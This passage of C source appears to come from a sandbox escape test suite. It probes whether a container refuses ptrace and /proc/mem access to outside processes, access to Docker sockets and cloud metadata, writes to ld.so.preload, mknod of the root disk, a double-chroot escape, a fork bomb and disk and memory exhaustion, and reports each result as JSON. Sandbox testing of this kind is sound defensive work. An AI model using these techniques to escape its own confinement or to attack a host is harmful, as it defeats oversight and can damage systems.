        win(o, "perf_event_open(%s) succeeded", what);
        close(fd);
    }
}

/* The type number of a dynamic PMU (kprobe, uprobe); -1 when the kernel has none. */
static int pmu_type(const char *pmu)
{
    char path[128], text[32];
    snprintf(path, sizeof path, "/sys/bus/event_source/devices/%s/type", pmu);
    return read_text(path, text, sizeof text) > 0 ? atoi(text) : -1;
}

/* Never called: the uprobe attempt places its (disabled) probe here. */
__attribute__((noinline, used)) static void uprobe_target(void)
{
    __asm__ volatile("");
}

static void attempt_perf_event(struct outcome *o)
{
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.exclude_kernel = 1; /* the least privileged form, allowed up to perf_event_paranoid=2 */
    attr.exclude_hv = 1;
    perf_open(o, &attr, "software cpu-clock, pid 0, cpu -1");

    static const char *const tracepoint_ids[] = {
        "/sys/kernel/tracing/events/syscalls/sys_enter_getpid/id",
        "/sys/kernel/debug/tracing/events/syscalls/sys_enter_getpid/id",
        "/sys/kernel/tracing/events/raw_syscalls/sys_enter/id",
        "/sys/kernel/debug/tracing/events/raw_syscalls/sys_enter/id",
    };
    bool tried = false;
    for (size_t i = 0; i < sizeof tracepoint_ids / sizeof *tracepoint_ids && !tried; i++) {
        char text[32];
        if (read_text(tracepoint_ids[i], text, sizeof text) <= 0)
            continue;
        memset(&attr, 0, sizeof attr);
        attr.type = PERF_TYPE_TRACEPOINT;
        attr.config = strtoull(text, NULL, 10);
        perf_open(o, &attr, "tracepoint");
        tried = true;
    }
    if (!tried)
        note(o, "tracepoint: skipped (no tracefs event id visible)");

    int kprobe = pmu_type("kprobe");
    if (kprobe >= 0) {
        memset(&attr, 0, sizeof attr);
        attr.type = (uint32_t)kprobe;
        attr.config1 = (uintptr_t)"do_exit"; /* kprobe_func */
        perf_open(o, &attr, "kprobe on do_exit");
    } else {
        note(o, "kprobe: skipped (no kprobe PMU)");
    }

    int uprobe = pmu_type("uprobe");
    struct mapping maps[512];
    int count = read_maps(getpid(), maps, 512);
    uintptr_t target = (uintptr_t)&uprobe_target;
    int m = 0;
    while (m < count && !(maps[m].start <= target && target < maps[m].end))
        m++;
    if (uprobe >= 0 && m < count) {
        memset(&attr, 0, sizeof attr);
        attr.type = (uint32_t)uprobe;
        attr.config1 = (uintptr_t)"/proc/self/exe";                  /* uprobe_path */
        attr.config2 = target - maps[m].start + maps[m].offset;       /* file offset */
        perf_open(o, &attr, "uprobe in our own binary");
    } else {
        note(o, "uprobe: skipped (%s)", uprobe < 0 ? "no uprobe PMU" : "our own mapping not found");
    }
}

static void traceme_child(struct outcome *o)
{
    if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0)
        fail(o, errno, "ptrace(PTRACE_TRACEME)");
    else
        note(o, "ptrace(PTRACE_TRACEME) succeeded (being traced by our own parent is no escape)");
}

/* Waits for a tracee's stop and detaches, never leaving it stopped. */
static void detach_tracee(pid_t pid)
{
    int status;
    wait_within(pid, &status, __WALL, 1000);
    if (ptrace(PTRACE_DETACH, pid, NULL, NULL) < 0)
        kill(pid, SIGCONT);
}

static void attempt_ptrace_outside(struct outcome *o)
{
    pid_t pid = target_pid();
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
        fail(o, errno, "ptrace(PTRACE_ATTACH, %d)", (int)pid);
    } else {
        /* Waiting for the attach's SIGSTOP and detaching with signal 0 swallows it. */
        detach_tracee(pid);
        win(o, "ptrace(PTRACE_ATTACH, %d) succeeded (detached)", (int)pid);
    }
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
        fail(o, errno, "ptrace(PTRACE_SEIZE, %d)", (int)pid);
    } else {
        ptrace(PTRACE_INTERRUPT, pid, NULL, NULL); /* a seized tracee must be stopped to detach */
        detach_tracee(pid);
        win(o, "ptrace(PTRACE_SEIZE, %d) succeeded (detached)", (int)pid);
    }
    struct outcome sub;
    run_isolated(traceme_child, &sub, 2000);
    merge(o, &sub, "in a child");
}

static void attempt_proc_mem_outside(struct outcome *o)
{
    pid_t pid = target_pid();
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open(%s, O_RDWR)", path);
        return;
    }
    /* Rewrite one byte of a read-only, file-backed mapping with its own value: /proc/PID/mem
     * writes through page protections, and the target never writes such a page itself,
     * so nothing can race the rewrite. */
    struct mapping maps[512];
    int count = read_maps(pid, maps, 512);
    int m = 0;
    while (m < count && !(maps[m].perms[0] == 'r' && maps[m].perms[1] == '-' && maps[m].inode != 0))
        m++;
    if (m >= count) {
        win(o, "open(%s, O_RDWR) succeeded (no read-only mapping found to test a write on)", path);
    } else {
        unsigned char byte;
        off_t at = (off_t)maps[m].start;
        if (pread(fd, &byte, 1, at) != 1)
            fail(o, errno, "open(%s, O_RDWR) succeeded, but pread at %#lx", path, (unsigned long)at);
        else if (pwrite(fd, &byte, 1, at) != 1)
            fail(o, errno, "open(%s, O_RDWR) succeeded, but pwrite at %#lx", path, (unsigned long)at);
        else
            win(o, "open(%s, O_RDWR) and pwrite at %#lx succeeded (wrote back the byte read)", path,
                (unsigned long)at);
    }
    close(fd);
}

static void attempt_process_vm_writev(struct outcome *o)
{
    pid_t pid = target_pid();
    struct mapping maps[512];
    int count = read_maps(pid, maps, 512);
    bool probe_mapped = false;
    uintptr_t readable = unmapped_probe_address;
    for (int m = count - 1; m >= 0; m--) {
        if (maps[m].start <= unmapped_probe_address && unmapped_probe_address < maps[m].end)
            probe_mapped = true;
        if (maps[m].perms[0] == 'r')
            readable = maps[m].start;
    }

    /* The permission check comes before any page is touched, so EFAULT at an unmapped
     * address means access was granted. */
    unsigned char buf[8] = {0};
    struct iovec local = {buf, sizeof buf};
    struct iovec remote = {(void *)readable, sizeof buf};
    ssize_t n = process_vm_readv(pid, &local, 1, &remote, 1, 0);
    if (n > 0)
        win(o, "process_vm_readv(%d) read %zd bytes at %#lx", (int)pid, n, (unsigned long)readable);
    else if (errno == EFAULT)
        win(o, "process_vm_readv(%d) passed the permission check (EFAULT at %#lx)", (int)pid, (unsigned long)readable);
    else
        fail(o, errno, "process_vm_readv(%d)", (int)pid);

    /* Writes go only to an unmapped page: a granted write shows as EFAULT, and the target's
     * memory is never touched. */
    if (probe_mapped) {
        note(o, "process_vm_writev: skipped (%#lx is mapped in %d)", (unsigned long)unmapped_probe_address, (int)pid);
        return;
    }
    remote.iov_base = (void *)unmapped_probe_address;
    n = process_vm_writev(pid, &local, 1, &remote, 1, 0);
    if (n >= 0)
        win(o, "process_vm_writev(%d) wrote %zd bytes at %#lx", (int)pid, n, (unsigned long)unmapped_probe_address);
    else if (errno == EFAULT)
        win(o, "process_vm_writev(%d) passed the permission check (EFAULT at the unmapped %#lx; nothing written)",
            (int)pid, (unsigned long)unmapped_probe_address);
    else
        fail(o, errno, "process_vm_writev(%d)", (int)pid);
}

static void attempt_keyctl(struct outcome *o)
{
    long key = syscall(SYS_add_key, "user", "alcub3", "x", 1, KEY_SPEC_PROCESS_KEYRING);
    if (key < 0) {
        fail(o, errno, "add_key(user, alcub3, process keyring)");
    } else {
        win(o, "add_key(user, alcub3) created key %ld (invalidated)", key);
        syscall(SYS_keyctl, KEYCTL_INVALIDATE, key);
    }
    long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (id < 0)
        fail(o, errno, "keyctl(KEYCTL_GET_KEYRING_ID, session keyring)");
    else
        win(o, "keyctl(KEYCTL_GET_KEYRING_ID) returned keyring %ld", id);
}

static void attempt_userfaultfd(struct outcome *o)
{
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "userfaultfd(O_CLOEXEC)");
    } else {
        win(o, "userfaultfd(O_CLOEXEC) created a userfaultfd that handles kernel faults too");
        close(fd);
    }
    int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);
    if (dev < 0) {
        fail(o, errno, "open(/dev/userfaultfd)");
        return;
    }
    fd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "open(/dev/userfaultfd) succeeded, but USERFAULTFD_IOC_NEW");
    } else {
        win(o, "/dev/userfaultfd gave a userfaultfd");
        close(fd);
    }
    close(dev);
}

static void attempt_io_uring(struct outcome *o)
{
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    int fd = (int)syscall(SYS_io_uring_setup, 8, &params);
    if (fd < 0) {
        fail(o, errno, "io_uring_setup(8)");
    } else {
        win(o, "io_uring_setup(8) created a ring");
        close(fd);
    }
}

static void attempt_raw_socket(struct outcome *o)
{
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    if (fd < 0) {
        fail(o, errno, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)");
    } else {
        win(o, "socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) succeeded");
        close(fd);
    }
    fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        fail(o, errno, "socket(AF_PACKET, SOCK_RAW, 0)");
    } else {
        win(o, "socket(AF_PACKET, SOCK_RAW, 0) succeeded");
        close(fd);
    }
}

/* A non-blocking connect bounded by timeout_ms; returns 0 or an errno (ETIMEDOUT). */
static int connect_within(const struct sockaddr *addr, socklen_t len, int timeout_ms)
{
    int fd = socket(addr->sa_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return errno;
    int err = 0;
    if (connect(fd, addr, len) < 0) {
        err = errno;
        if (err == EINPROGRESS) {
            struct pollfd pfd = {.fd = fd, .events = POLLOUT};
            int ready = poll(&pfd, 1, timeout_ms);
            socklen_t size = sizeof err;
            if (ready == 0)
                err = ETIMEDOUT;
            else if (ready < 0)
                err = errno;
            else if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &size) < 0)
                err = errno;
        }
    }
    close(fd);
    return err;
}

static void attempt_cloud_metadata(struct outcome *o)
{
    int err = connect_within((struct sockaddr *)&options.metadata, options.metadata_len, CONNECT_TIMEOUT_MS);
    if (err == 0)
        win(o, "connected to %s", options.metadata_text);
    else if (err == ETIMEDOUT)
        fail(o, err, "connect(%s): no answer within 1 s", options.metadata_text);
    else
        fail(o, err, "connect(%s)", options.metadata_text);
}

static void attempt_runtime_socket(struct outcome *o)
{
    static const char *const known[] = {
        "/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock",
        "/run/crio/crio.sock", "/run/podman/podman.sock", "/run/alcub3/alcub3.sock",
    };
    const char *paths[sizeof known / sizeof *known + sizeof options.sockets / sizeof *options.sockets];
    int count = 0;
    for (size_t i = 0; i < sizeof known / sizeof *known; i++)
        paths[count++] = known[i];
    for (int i = 0; i < options.socket_count; i++)
        paths[count++] = options.sockets[i];

    for (int i = 0; i < count; i++) {
        struct sockaddr_un addr = {.sun_family = AF_UNIX};
        snprintf(addr.sun_path, sizeof addr.sun_path, "%s", paths[i]);
        int err = connect_within((struct sockaddr *)&addr, sizeof addr, CONNECT_TIMEOUT_MS);
        if (err == 0) {
            win(o, "%s: connected", paths[i]);
        } else {
            record_errno(o, err);
            note(o, "%s: %s", paths[i], errno_name(err));
        }
    }
}

/* Whether path lies in the workspace, where writing is allowed. */
static bool in_workspace(const char *path)
{
    size_t len = options.workspace ? strlen(options.workspace) : 0;
    return len && strncmp(path, options.workspace, len) == 0 && (path[len] == '/' || path[len] == '\0');
}

static void attempt_write_outside_workspace(struct outcome *o)
{
    static const char *const paths[] = {
        "/etc/alcub3-escape-probe", "/usr/alcub3-escape-probe",
        "/root/alcub3-escape-probe", "/var/alcub3-escape-probe",
    };
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        if (in_workspace(paths[i])) {
            note(o, "%s: skipped (inside the workspace)", paths[i]);
            continue;
        }
        int fd = open(paths[i], O_CREAT | O_WRONLY | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0) {
            fail(o, errno, "open(%s, O_CREAT|O_EXCL)", paths[i]);
        } else {
            close(fd);
            unlink(paths[i]);
            win(o, "created %s (removed)", paths[i]);
        }
    }
}

static void attempt_ld_preload(struct outcome *o)
{
    static const char path[] = "/etc/ld.so.preload";
    struct stat st;
    bool existed = lstat(path, &st) == 0;
    /* O_EXCL when absent, so that the file removed afterwards is surely ours. */
    int fd = open(path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC | (existed ? 0 : O_EXCL), 0644);
    if (fd < 0) {
        fail(o, errno, "open(%s, O_WRONLY|O_APPEND|O_CREAT)", path);
        return;
    }
    close(fd);
    if (!existed)
        unlink(path);
    win(o, "opened %s for appending (%s; nothing written)", path,
        existed ? "it already existed" : "created it, then removed it");
}

static void attempt_mknod_block(struct outcome *o)
{
    /* The disk under our root when it has one, else the classic sda. */
    struct stat root;
    dev_t disk = makedev(8, 0);
    if (stat("/", &root) == 0 && major(root.st_dev) != 0)
        disk = root.st_dev;
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/alcub3-sda", scratch_base());
    if (mknod(path, S_IFBLK | 0600, disk) < 0) {
        fail(o, errno, "mknod(%s, block %u:%u)", path, major(disk), minor(disk));
        return;
    }
    /* The goal is the disk's contents: a node that cannot be opened (nodev mount, device
     * cgroup) achieves nothing. */
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        fail(o, errno, "mknod(%s, block %u:%u) succeeded, but open", path, major(disk), minor(disk));
    } else {
        char sector[512];
        ssize_t n = read(fd, sector, sizeof sector);
        win(o, "created block device %u:%u at %s and opened it (read of 512 bytes: %zd)", major(disk),
            minor(disk), path, n);
        close(fd);
    }
    unlink(path);
}

/* In a child: the classic chroot escape, on shared_dir. */
static void double_chroot_child(struct outcome *o)
{
    struct stat before, after;
    stat("/", &before);
    if (chroot(shared_dir) < 0) {
        fail(o, errno, "chroot(%s)", shared_dir);
        return;
    }
    /* The working directory is still outside the new root, so ".." climbs freely up to
     * the real root of the mount namespace. */
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        fail(o, errno, "chroot(%s) succeeded, but chroot(.) after climbing", shared_dir);
        return;
    }
    stat("/", &after);
    if (same_inode(&before, &after))
        note(o, "chroot(%s) succeeded, but climbing \"..\" led back to our own root", shared_dir);
    else
        win(o, "escaped: / is now device %u:%u inode %lu, was %u:%u inode %lu", major(after.st_dev),
            minor(after.st_dev), (unsigned long)after.st_ino, major(before.st_dev), minor(before.st_dev),
            (unsigned long)before.st_ino);
}

static void attempt_double_chroot(struct outcome *o)
{
    if (!make_scratch_dir(o, shared_dir)) {
        snprintf(shared_dir, sizeof shared_dir, "%s", scratch_base());
        note(o, "using %s itself", shared_dir);
    }
    struct outcome sub;
    run_isolated(double_chroot_child, &sub, 5000);
    merge(o, &sub, "in a child");
    if (strcmp(shared_dir, scratch_base()) != 0)
        rmdir(shared_dir);
}

static void attempt_setuid_root(struct outcome *o)
{
    uid_t euid = geteuid();
    if (euid != 0) {
        if (setuid(0) < 0)
            fail(o, errno, "setuid(0) as euid %u", (unsigned)euid);
        else
            note(o, "setuid(0) as euid %u succeeded", (unsigned)euid);
    }
    if (setresuid(0, 0, 0) < 0)
        fail(o, errno, "setresuid(0, 0, 0)");
    else
        note(o, "setresuid(0, 0, 0) succeeded (euid was %u)", (unsigned)euid);

    /* Setuid-root binaries are only listed, not run: whether one could raise us depends
     * on nosuid and no_new_privs, reported alongside. */
    static const char *const setuid_binaries[] = {"/usr/bin/passwd", "/bin/su", "/usr/bin/sudo", "/usr/bin/newgrp"};
    for (size_t i = 0; i < sizeof setuid_binaries / sizeof *setuid_binaries; i++) {
        struct stat st;
        struct statvfs vfs;
        if (stat(setuid_binaries[i], &st) == 0 && (st.st_mode & S_ISUID) && st.st_uid == 0)
            note(o, "%s is setuid root%s", setuid_binaries[i],
                 statvfs(setuid_binaries[i], &vfs) == 0 && (vfs.f_flag & ST_NOSUID) ? " on a nosuid mount" : "");
    }
    unsigned long long eff = 0, prm = 0, bnd = 0, nnp = 0;
    if (!status_field("CapEff", &eff)) {
        win(o, "no verdict: CapEff unreadable in /proc/self/status");
        return;
    }
    status_field("CapPrm", &prm);
    status_field("CapBnd", &bnd);
    status_field("NoNewPrivs", &nnp);
    if (eff != 0)
        win(o, "CapEff %016llx (CapPrm %016llx, CapBnd %016llx, NoNewPrivs %llu)", eff, prm, bnd, nnp);
    else
        note(o, "no capabilities: CapEff %016llx (CapPrm %016llx, CapBnd %016llx, NoNewPrivs %llu)", eff, prm,
             bnd, nnp);
}

static void attempt_memfd_exec(struct outcome *o)
{
    int memfd = memfd_create("alcub3-escape", MFD_CLOEXEC | MFD_EXEC);
    if (memfd < 0 && errno == EINVAL) /* before Linux 6.3, MFD_EXEC is unknown and implied */
        memfd = memfd_create("alcub3-escape", MFD_CLOEXEC);
    if (memfd < 0) {
        fail(o, errno, "memfd_create");
        return;
    }
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (self < 0) {
        fail(o, errno, "open(/proc/self/exe)");
        close(memfd);
        return;
    }
    char buf[65536];
    ssize_t n;
    while ((n = read(self, buf, sizeof buf)) > 0)
        if (!write_all(memfd, buf, (size_t)n))
            break;
    close(self);
    if (n != 0) {
        fail(o, errno, "copying /proc/self/exe into the memfd");
        close(memfd);
        return;
    }

    /* The child reports a failed exec through a close-on-exec pipe: EOF means it ran. */
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) {
        win(o, "no verdict: pipe: %s", strerror(errno));
        close(memfd);
        return;
    }
    pid_t pid = fork_retrying();
    if (pid < 0) {
        win(o, "no verdict: fork: %s", strerror(errno));
    } else if (pid == 0) {
        char *argv[] = {"alcub3-escape", "--exit0", NULL};
        char *envp[] = {NULL};
        syscall(SYS_execveat, memfd, "", argv, envp, AT_EMPTY_PATH);
        int err = errno;
        write_all(pipefd[1], &err, sizeof err);
        _exit(127);
    }
    close(pipefd[1]);
    if (pid > 0) {
        int err = 0;
        struct pollfd pfd = {.fd = pipefd[0], .events = POLLIN};
        bool reported = poll(&pfd, 1, 2000) > 0 && read(pipefd[0], &err, sizeof err) == sizeof err;
        bool killed;
        int status = reap_within(pid, 2000, &killed);
        if (reported)
            fail(o, err, "execveat(memfd, AT_EMPTY_PATH)");
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
            win(o, "executed a copy of this binary from a memfd (it exited 0)");
        else if (WIFSIGNALED(status) && !killed)
            note(o, "the memfd exec was killed by SIG%s", sigabbrev_np(WTERMSIG(status)));
        else
            win(o, "no verdict: the memfd child %s", killed ? "did not finish within 2 s" : "ended oddly");
    }
    close(pipefd[0]);
    close(memfd);
}

static void attempt_wx_mapping(struct outcome *o)
{
    const size_t page = 4096;
    void *p = mmap(NULL, page, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
        fail(o, errno, "mmap(PROT_READ|PROT_WRITE|PROT_EXEC)");
    } else {
        win(o, "mmap(PROT_READ|PROT_WRITE|PROT_EXEC) succeeded");
        munmap(p, page);
    }
    p = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
        fail(o, errno, "mmap(PROT_READ|PROT_WRITE)");
        return;
    }
    if (mprotect(p, page, PROT_READ | PROT_WRITE | PROT_EXEC) < 0)
        fail(o, errno, "mprotect(RW to RWX)");
    else
        win(o, "mprotect(RW to RWX) succeeded");
    munmap(p, page);
}

static void attempt_fork_bomb(struct outcome *o)
{
    enum { GOAL = 20000 };
    struct report { int created; int err; } report = {0, 0};
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) {
        win(o, "no verdict: pipe: %s", strerror(errno));
        return;
    }
    /* Orphans come back to us, so every process is reaped even if the leader dies first. */
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    pid_t self = getpid();
    pid_t leader = fork();
    if (leader < 0) {
        fail(o, errno, "fork");
        return;
    }
    if (leader == 0) {
        /* The leader's own process group holds every process it makes, for one kill. */
        setpgid(0, 0);
        close(pipefd[0]);
        die_with_parent(self);
        pid_t leader_pid = getpid();
        int64_t deadline = now_ms() + RESOURCE_ATTACK_MS;
        while (report.created < GOAL && now_ms() < deadline) {
            pid_t pid = fork();
            if (pid == 0) {
                die_with_parent(leader_pid);
                for (;;)
                    pause();
            }
            if (pid < 0) {
                report.err = errno;
                break;
            }
            report.created++;
        }
        write_all(pipefd[1], &report, sizeof report);
        for (;;)
            pause();
    }
    setpgid(leader, leader); /* also from here, so the kill below cannot miss the group */
    close(pipefd[1]);

    struct pollfd pfd = {.fd = pipefd[0], .events = POLLIN};
    bool reported = poll(&pfd, 1, RESOURCE_ATTACK_MS + 3000) > 0 &&
                    read(pipefd[0], &report, sizeof report) == sizeof report;
    close(pipefd[0]);

    /* Killed again whenever some are still unreaped, which also catches a process forked
     * during the first kill; the group cannot be gone while one of its members is. */
    int64_t deadline = now_ms() + 5000;
    int reaped = 0;
    kill(-leader, SIGKILL);
    for (;;) {
        pid_t r = waitpid(-1, NULL, WNOHANG);
        if (r > 0) {
            reaped++;
            continue;
        }
        if ((r < 0 && errno == ECHILD) || now_ms() >= deadline)
            break;
        kill(-leader, SIGKILL);
        nap_ms(5);
    }

    if (!reported)
        win(o, "no verdict: the fork leader did not report within %d s", RESOURCE_ATTACK_MS / 1000 + 3);
    else if (report.err)
        fail(o, report.err, "fork failed after %d processes (all %d killed and reaped)", report.created, reaped);
    else
        win(o, "created %d processes %s without hitting a limit (all %d killed and reaped)", report.created,
            report.created >= GOAL ? "(the goal)" : "in 3 s", reaped);
}

/* How far a resource attack's worker got, sent after every step. */
struct progress {
    int mib;
    enum { WORKING, LIMIT_HIT, REACHED_GOAL, OUT_OF_TIME } state;
    int err; /* with LIMIT_HIT */
};

/* A resource attack: work runs in a child, grows its use by steps for at most
 * RESOURCE_ATTACK_MS, and reports each step on report_fd; exiting undoes it all. */
struct resource_attack {
    const char *action; /* "allocating and touching memory" */
    const char *undone; /* "freed" */
    void (*work)(int report_fd);
};

static void report_progress(int fd, struct progress *p)
{
    write_all(fd, p, sizeof *p);
}

/* Runs a resource attack and says how it ended. The worker is the OOM killer's first
 * choice (oom_score_adj 1000), and reports after every step, so one killed midway still
 * tells how far it got. */
static void run_resource_attack(struct outcome *o, const struct resource_attack *attack)
{
    int pipefd[2];
    if (pipe2(pipefd, O_CLOEXEC) < 0) {
        win(o, "no verdict: pipe: %s", strerror(errno));
        return;
    }
    pid_t self = getpid();
    pid_t worker = fork();
    if (worker < 0) {
        fail(o, errno, "fork");
        close(pipefd[0]);
        close(pipefd[1]);
        return;
    }
    if (worker == 0) {
        close(pipefd[0]);
        die_with_parent(self);
        prefer_as_oom_victim(1000);
        attack->work(pipefd[1]);
        _exit(0);
    }
    close(pipefd[1]);

    struct progress last = {0, WORKING, 0}, incoming;
    int64_t deadline = now_ms() + RESOURCE_ATTACK_MS + 2000;
    for (;;) {
        int remaining = (int)(deadline - now_ms());
        struct pollfd pfd = {.fd = pipefd[0], .events = POLLIN};
        if (remaining <= 0 || poll(&pfd, 1, remaining) <= 0)
            break;
        if (read(pipefd[0], &incoming, sizeof incoming) != sizeof incoming)
            break; /* EOF: the worker is gone */
        last = incoming;
    }
    close(pipefd[0]);
    bool killed_by_us;
    int status = reap_within(worker, 1000, &killed_by_us);

    if (last.state == LIMIT_HIT)
        fail(o, last.err, "%s stopped after %d MiB (%s)", attack->action, last.mib, attack->undone);
    else if (WIFSIGNALED(status) && !killed_by_us)
        note(o, "%s: killed by SIG%s after %d MiB%s (%s)", attack->action, sigabbrev_np(WTERMSIG(status)),
             last.mib, WTERMSIG(status) == SIGKILL ? ", the OOM killer's doing" : "", attack->undone);
    else if (last.state == REACHED_GOAL)
        win(o, "%s: %d MiB, the goal, without hitting a limit (%s)", attack->action, last.mib, attack->undone);
    else if (last.state == OUT_OF_TIME)
        win(o, "%s: %d MiB in %d s without hitting a limit (%s)", attack->action, last.mib,
            RESOURCE_ATTACK_MS / 1000, attack->undone);
    else
        win(o, "no verdict: %s %s after %d MiB", attack->action,
            killed_by_us ? "did not finish in time" : "stopped reporting", last.mib);
}

static void hog_memory(int report_fd)
{
    enum { STEP_MIB = 64, GOAL_MIB = 8192 };
    const size_t step = (size_t)STEP_MIB << 20;
    struct progress p = {0, WORKING, 0};
    int64_t deadline = now_ms() + RESOURCE_ATTACK_MS;
    while (p.mib < GOAL_MIB && now_ms() < deadline) {
        char *block = mmap(NULL, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (block == MAP_FAILED) {
            p.state = LIMIT_HIT;
            p.err = errno;
            break;
        }
        madvise(block, step, MADV_HUGEPAGE); /* faster faulting, so 3 s reach further */
        for (size_t off = 0; off < step; off += 4096)
            ((volatile char *)block)[off] = 1;
        p.mib += STEP_MIB;
        report_progress(report_fd, &p);
    }
    if (p.state == WORKING)
        p.state = p.mib >= GOAL_MIB ? REACHED_GOAL : OUT_OF_TIME;
    report_progress(report_fd, &p);
}

static void attempt_memory_hog(struct outcome *o)
{
    static const struct resource_attack hog = {"allocating and touching memory", "freed", hog_memory};
    run_resource_attack(o, &hog);
}

static char fill_path[PATH_MAX];

static void fill_disk(int report_fd)
{
    enum { CHUNK_MIB = 1, GOAL_MIB = 4096, REPORT_EVERY_MIB = 16 };
    static char zeros[CHUNK_MIB << 20]; /* not const: .bss, not 1 MiB of the binary */
    struct progress p = {0, WORKING, 0};
    signal(SIGXFSZ, SIG_IGN); /* a file size limit then shows as EFBIG instead of a kill */
    int fd = open(fill_path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
    if (fd < 0) {
        p.state = LIMIT_HIT;
        p.err = errno;
        report_progress(report_fd, &p);
        return;
    }
    /* Unlinked at once: its blocks stay in use until close, and no file can be left
     * behind even if the worker is killed. */
    unlink(fill_path);
    long long written = 0;
    int64_t deadline = now_ms() + RESOURCE_ATTACK_MS;
    while (written < (long long)GOAL_MIB << 20 && now_ms() < deadline) {
        ssize_t n = write(fd, zeros, sizeof zeros);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0) {
            p.state = LIMIT_HIT;
            p.err = errno;
            break;
        }
        written += n;
        p.mib = (int)(written >> 20);
        if (p.mib % REPORT_EVERY_MIB == 0)
            report_progress(report_fd, &p);
    }
    close(fd);
    if (p.state == WORKING)
        p.state = p.mib >= GOAL_MIB ? REACHED_GOAL : OUT_OF_TIME;
    report_progress(report_fd, &p);
}

static void attempt_disk_filler(struct outcome *o)
{
    static char action[PATH_MAX + 32];
    snprintf(fill_path, sizeof fill_path, "%s/alcub3-fill", scratch_base());
    snprintf(action, sizeof action, "writing zeros to %s", fill_path);
    const struct resource_attack filler = {action, "file removed", fill_disk};
    run_resource_attack(o, &filler);
}

/* ---- the suite ------------------------------------------------------------------------ */

static const struct technique {
    const char *id;
    attempt_fn *attempt;
} techniques[] = {
    {"mount", attempt_mount},
    {"cgroup-release-agent", attempt_cgroup_release_agent},
    {"cgroup-escape", attempt_cgroup_escape},
    {"proc-control", attempt_proc_control},
    {"userns-unshare", attempt_userns_unshare},
    {"setns-host", attempt_setns_host},
    {"proc-root-traversal", attempt_proc_root_traversal},
    {"open-by-handle", attempt_open_by_handle},
    {"core-pattern", attempt_core_pattern},
    {"sysrq", attempt_sysrq},
    {"kernel-module", attempt_kernel_module},
    {"bpf", attempt_bpf},
    {"perf-event", attempt_perf_event},
    {"ptrace-outside", attempt_ptrace_outside},
    {"proc-mem-outside", attempt_proc_mem_outside},
    {"process-vm-writev", attempt_process_vm_writev},
    {"keyctl", attempt_keyctl},
    {"userfaultfd", attempt_userfaultfd},
    {"io-uring", attempt_io_uring},
    {"raw-socket", attempt_raw_socket},
    {"cloud-metadata", attempt_cloud_metadata},
    {"runtime-socket", attempt_runtime_socket},
    {"write-outside-workspace", attempt_write_outside_workspace},
    {"ld-preload", attempt_ld_preload},
    {"mknod-block", attempt_mknod_block},
    {"double-chroot", attempt_double_chroot},
    {"setuid-root", attempt_setuid_root},
    {"memfd-exec", attempt_memfd_exec},
    {"wx-mapping", attempt_wx_mapping},
    {"fork-bomb", attempt_fork_bomb},
    {"memory-hog", attempt_memory_hog},
    {"disk-filler", attempt_disk_filler},
};
enum { TECHNIQUE_COUNT = sizeof techniques / sizeof *techniques };

/* Appends s to out as a JSON string body. Bytes >= 0x80 are escaped one by one, so the
 * line stays valid JSON whatever a read file contained. */
static size_t json_escape(char *out, size_t size, const char *s)
{
    size_t n = 0;
    for (; *s && n + 7 < size; s++) {
        unsigned char c = (unsigned char)*s;
        if (c == '"' || c == '\\')
            n += (size_t)snprintf(out + n, size - n, "\\%c", c);
        else if (c < 0x20 || c >= 0x7f)
            n += (size_t)snprintf(out + n, size - n, "\\u%04x", c);
        else
            out[n++] = (char)c;
    }
    out[n] = '\0';
    return n;
}

static void print_outcome(const char *id, const struct outcome *o)
{
    char detail[DETAIL_MAX * 6 + 1];
    char line[sizeof detail + 256];
    json_escape(detail, sizeof detail, o->detail);
    const char *err = !o->achieved && o->err ? errno_name(o->err) : "";
    int n = snprintf(line, sizeof line, "{\"technique\":\"%s\",\"refused\":%s,\"errno\":\"%s\",\"detail\":\"%s\"}\n",
                     id, o->achieved ? "false" : "true", err, detail);
